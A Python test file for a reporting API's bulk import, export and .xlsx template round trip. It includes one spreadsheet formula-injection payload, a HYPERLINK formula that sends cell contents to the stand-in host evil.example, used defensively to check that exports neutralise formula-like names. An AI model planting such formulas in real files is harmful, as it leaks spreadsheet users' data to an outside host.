"""Bulk import (JSON, CSV, .xlsx), export, and the .xlsx template round trip."""

import csv
import io
import re

from openpyxl import load_workbook

from app.models.units import Unit
from tests.reporting import GOOD

XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def csv_of(rows):
    header = ["unit", "period", *GOOD]
    lines = [",".join(header)] + [
        ",".join([u, p, *[str(v.get(k, "")) for k in GOOD]]) for u, p, v in rows
    ]
    return ("\n".join(lines) + "\n").encode()


def test_csv_import_creates_then_resending_changes_nothing(api, figures_world):
    w = figures_world
    body = csv_of([("CC_A1", "2022-Q1", GOOD), ("CC_A2", "2022-Q1", GOOD)])
    first = api.post(
        "/api/v1/reports/import",
        headers=w.headers("reviewer_a", **{"Content-Type": "text/csv"}),
        content=body,
    )
    assert first.status_code == 200, first.text
    assert first.json() | {"errors": []} == {
        "dry_run": False,
        "applied": True,
        "created": 2,
        "updated": 0,
        "unchanged": 0,
        "rejected": 0,
        "errors": [],
        "issues": [],
    }
    again = api.post(
        "/api/v1/reports/import",
        headers=w.headers("reviewer_a", **{"Content-Type": "text/csv"}),
        content=body,
    )
    assert again.json()["unchanged"] == 2 and again.json()["created"] == 0


def test_one_bad_row_imports_nothing_and_names_the_row(api, figures_world):
    w = figures_world
    bad = {**GOOD, "viec_dinh_chi": "nhiều"}
    body = csv_of([("CC_A1", "2022-Q1", GOOD), ("CC_A2", "2022-Q1", bad)])
    r = api.post(
        "/api/v1/reports/import",
        headers=w.headers("reviewer_a", **{"Content-Type": "text/csv"}),
        content=body,
    )
    assert r.status_code == 422
    assert r.json()["errors"] == [
        {"field": "rows.3.viec_dinh_chi", "message": "Phải là số nguyên không âm", "code": "import"}
    ]
    assert api.get("/api/v1/reports", headers=w.headers("reviewer_a")).json()["total"] == 0


def test_dry_run_writes_nothing(api, figures_world):
    w = figures_world
    r = api.post(
        "/api/v1/reports/import",
        params={"dry_run": True},
        headers=w.headers("reviewer_a"),
        json={"rows": [{"unit": "CC_A1", "period": "2022-Q1", "values": GOOD}]},
    )
    assert r.status_code == 200 and r.json()["created"] == 1 and r.json()["applied"] is False
    assert api.get("/api/v1/reports", headers=w.headers("reviewer_a")).json()["total"] == 0


def test_import_respects_scope_and_locks(api, figures_world):
    w = figures_world
    r = api.post(
        "/api/v1/reports/import",
        headers=w.headers("reporter_a1"),
        json={"rows": [{"unit": "CC_A2", "period": "2022-Q1", "values": GOOD}]},
    )
    assert r.status_code == 422 and r.json()["errors"][0]["field"] == "rows.1.unit"


def test_export_csv_and_xlsx_hold_the_figures(api, figures_world):
    w = figures_world
    api.post(
        "/api/v1/reports/import",
        headers=w.headers("reviewer_a"),
        json={"rows": [{"unit": "CC_A1", "period": "2022-Q1", "values": GOOD}]},
    )
    csv_text = api.get(
        "/api/v1/reports/export", params={"period": "2022-Q1"}, headers=w.headers("reviewer_a")
    ).text
    assert "CC_A1" in csv_text and "82.5" in csv_text
    xlsx = api.get(
        "/api/v1/reports/export",
        params={"period": "2022-Q1", "format": "xlsx"},
        headers=w.headers("reviewer_a"),
    )
    assert xlsx.headers["content-type"] == XLSX
    sheet = load_workbook(io.BytesIO(xlsx.content)).active
    header = [c.value for c in sheet[1]]
    row = dict(zip(header, [c.value for c in sheet[2]], strict=True))
    assert (
        row["unit"] == "CC_A1" and row["viec_co_dieu_kien"] == 653719 and row["ty_le_tien"] == 27.59
    )


def test_template_round_trips_with_zero_changes_and_carries_edits(api, figures_world):
    w = figures_world
    api.post(
        "/api/v1/reports",
        headers=w.headers("reporter_a1"),
        json={"unit_id": w.unit_id("CC_A1"), "period": "2022-Q1", "values": GOOD},
    )
    t = api.get(
        "/api/v1/reports/template",
        params={"unit_id": w.unit_id("CC_A1"), "period": "2022-Q1"},
        headers=w.headers("reporter_a1"),
    )
    assert t.status_code == 200
    book = load_workbook(io.BytesIO(t.content))
    sheet = book["Báo cáo"]
    labels = {
        row[0].value: (row[1].value, row[2].value) for row in sheet.iter_rows() if row[0].value
    }
    assert labels["viec_thi_hanh_xong"] == ("Số việc thi hành xong", 500000)
    assert str(labels["ty_le_viec"][1]).startswith("=IF(")  # a live formula, computed below
    unchanged = api.post(
        "/api/v1/reports/import",
        headers=w.headers("reporter_a1", **{"Content-Type": XLSX}),
        content=t.content,
    )
    assert unchanged.json() | {"errors": []} == {
        "dry_run": False,
        "applied": True,
        "created": 0,
        "updated": 0,
        "unchanged": 1,
        "rejected": 0,
        "errors": [],
        "issues": [],
    }
    for row in sheet.iter_rows():
        if row[0].value == "viec_dinh_chi":
            row[2].value = 40000
    edited = io.BytesIO()
    book.save(edited)
    r = api.post(
        "/api/v1/reports/import",
        headers=w.headers("reporter_a1", **{"Content-Type": XLSX}),
        content=edited.getvalue(),
    )
    assert r.json()["updated"] == 1
    listed = api.get("/api/v1/reports", headers=w.headers("reporter_a1")).json()["items"][0]
    assert listed["values"]["viec_dinh_chi"] == 40000


def test_garbage_files_are_refused_cleanly(api, figures_world):
    w = figures_world
    r = api.post(
        "/api/v1/reports/import",
        headers=w.headers("reviewer_a", **{"Content-Type": XLSX}),
        content=b"not a zip",
    )
    assert r.status_code == 422
    r = api.post(
        "/api/v1/reports/import",
        headers=w.headers("reviewer_a", **{"Content-Type": "image/png"}),
        content=b"x",
    )
    assert r.status_code == 422


def test_an_empty_template_creates_nothing(api, figures_world):
    w = figures_world
    t = api.get(
        "/api/v1/reports/template",
        params={"unit_id": w.unit_id("CC_A1"), "period": "2022-Q1"},
        headers=w.headers("reporter_a1"),
    )
    r = api.post(
        "/api/v1/reports/import",
        headers=w.headers("reporter_a1", **{"Content-Type": XLSX}),
        content=t.content,
    )
    assert r.json()["created"] == 0 and r.json()["unchanged"] == 1
    assert api.get("/api/v1/reports", headers=w.headers("reporter_a1")).json()["total"] == 0


EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"x")'


def test_exports_keep_formula_like_names_as_text_and_reimport_unchanged(
    api, figures_world, session
):
    w = figures_world
    unit = session.get(Unit, w.unit_id("CC_A1"))
    unit.name = EVIL
    session.add(unit)
    session.commit()
    api.post(
        "/api/v1/reports/import",
        headers=w.headers("reviewer_a"),
        json={"rows": [{"unit": "CC_A1", "period": "2022-Q1", "values": GOOD}]},
    )
    params = {"period": "2022-Q1"}
    exported = api.get("/api/v1/reports/export", params=params, headers=w.headers("reviewer_a"))
    header, row = list(csv.reader(io.StringIO(exported.content.decode("utf-8-sig"))))
    cells = dict(zip(header, row, strict=True))
    assert cells["unit_name"] == "'" + EVIL and cells["unit"] == "CC_A1"
    assert cells["viec_co_dieu_kien"] == "653719" and cells["ty_le_tien"] == "27.59"
    xlsx = api.get(
        "/api/v1/reports/export",
        params={**params, "format": "xlsx"},
        headers=w.headers("reviewer_a"),
    ).content
    sheet = load_workbook(io.BytesIO(xlsx)).active
    names = [c.value for c in sheet[1]]
    cell = {name: c for name, c in zip(names, sheet[2], strict=True)}
    assert (cell["unit_name"].value, cell["unit_name"].data_type) == (EVIL, "s")
    assert (cell["viec_co_dieu_kien"].value, cell["viec_co_dieu_kien"].data_type) == (653719, "n")
    # both files go back in unchanged: the quoted name is an ignored column, the codes are intact
    for content, kind in ((exported.content, "text/csv"), (xlsx, XLSX)):
        again = api.post(
            "/api/v1/reports/import",
            headers=w.headers("reviewer_a", **{"Content-Type": kind}),
            content=content,
        )
        assert again.status_code == 200, again.text
        assert (again.json()["unchanged"], again.json()["updated"]) == (1, 0)


def test_a_dry_run_preview_says_what_each_row_changes(api, figures_world):
    w = figures_world
    api.post(
        "/api/v1/reports/import",
        headers=w.headers("reviewer_a"),
        json={"rows": [{"unit": "CC_A1", "period": "2022-Q1", "values": GOOD}]},
    )
    changed = {**GOOD, "viec_dinh_chi": GOOD["viec_dinh_chi"] + 1}
    body = csv_of([("CC_A1", "2022-Q1", changed), ("CC_A2", "2022-Q1", GOOD)])
    r = api.post(
        "/api/v1/reports/import",
        params={"dry_run": True, "preview": 1},
        headers=w.headers("reviewer_a", **{"Content-Type": "text/csv"}),
        content=body,
    )
    assert r.status_code == 200, r.text
    assert (r.json()["created"], r.json()["updated"]) == (1, 1)
    [row] = r.json()["rows"]  # the first row only
    assert row["unit"] == "CC_A1" and row["kind"] == "update" and row["row"] == 2
    assert row["changes"] == [
        {
            "metric": "viec_dinh_chi",
            "before": GOOD["viec_dinh_chi"],
            "after": changed["viec_dinh_chi"],
        }
    ]
    plain = api.post(
        "/api/v1/reports/import",
        params={"dry_run": True},
        headers=w.headers("reviewer_a", **{"Content-Type": "text/csv"}),
        content=body,
    )
    assert "rows" not in plain.json()


def test_the_dry_run_runs_every_rule_row_by_row_and_field_by_field(api, figures_world):
    """A sheet whose figures break a rule no longer previews cleanly: the dry run names the
    row, the field and the rule with its numbers, before anything is applied."""
    w = figures_world
    broken = {**GOOD, "viec_thi_hanh_xong": 653719}  # more cases done than can be
    body = csv_of([("CC_A1", "2022-Q1", GOOD), ("CC_A2", "2022-Q1", broken)])
    r = api.post(
        "/api/v1/reports/import",
        params={"dry_run": "true"},
        content=body,
        headers=w.headers("reviewer_a", **{"Content-Type": "text/csv"}),
    )
    assert r.status_code == 200, r.text
    summary = r.json()
    assert summary["applied"] is False and summary["created"] == 2
    errors = [i for i in summary["issues"] if i["severity"] == "error"]
    assert errors and {i["row"] for i in errors} == {3}  # the second data line, CC_A2
    assert "viec_thi_hanh_xong" in {i["field"] for i in errors}
    assert all(i["message"] and i["rule"] for i in errors)


def _calculate(sheet) -> dict[str, float | int | None]:
    """What a spreadsheet shows in column C: plain values, and the template's two formula
    shapes (a sum of cells; a rate as IF(den=0,"",ROUND(num/den*100,2)))."""
    cells = {f"C{row[0].row}": row[2].value for row in sheet.iter_rows() if len(row) > 2}

    def value(ref: str):
        raw = cells[ref]
        if isinstance(raw, str) and raw.startswith("="):
            return calc(raw[1:])
        return raw

    def total(expr: str) -> int:
        return sum(
            int(sign + "1") * (value(term) if term.startswith("C") else int(term))
            for sign, term in re.findall(r"([+-]?)(C\d+|\d+)", expr)
        )

    def calc(expr: str):
        rate = re.fullmatch(r'IF\(\((.+)\)=0,"",ROUND\(\((.+)\)/\((.+)\)\*100,2\)\)', expr)
        if rate:
            den, num = total(rate.group(1)), total(rate.group(2))
            return None if den == 0 else round(num / den * 100, 2)
        return total(expr)

    return {row[0].value: value(f"C{row[0].row}") for row in sheet.iter_rows() if row[0].value}


def test_the_template_computes_its_grey_rows_with_live_formulas(api, figures_world):
    w = figures_world
    t = api.get(
        "/api/v1/reports/template",
        params={"unit_id": w.unit_id("CC_A1"), "period": "2022-Q1"},
        headers=w.headers("reporter_a1"),
    )
    sheet = load_workbook(io.BytesIO(t.content))["Báo cáo"]
    # A clerk types the 2022 figures into the white cells; the grey rows follow.
    for row in sheet.iter_rows():
        if row[0].value in GOOD:
            row[2].value = GOOD[row[0].value]
    shown = _calculate(sheet)
    assert shown["viec_tong_thu_ly"] == 800000
    assert shown["viec_phai_thi_hanh"] == 790000
    assert shown["ty_le_viec"] == 82.5 and shown["ty_le_tien"] == 27.59  # as the API says
    formulas = [r[2].value for r in sheet.iter_rows() if isinstance(r[2].value, str)]
    assert sum(f.startswith("=") for f in formulas) >= 6  # every derived row and both rates
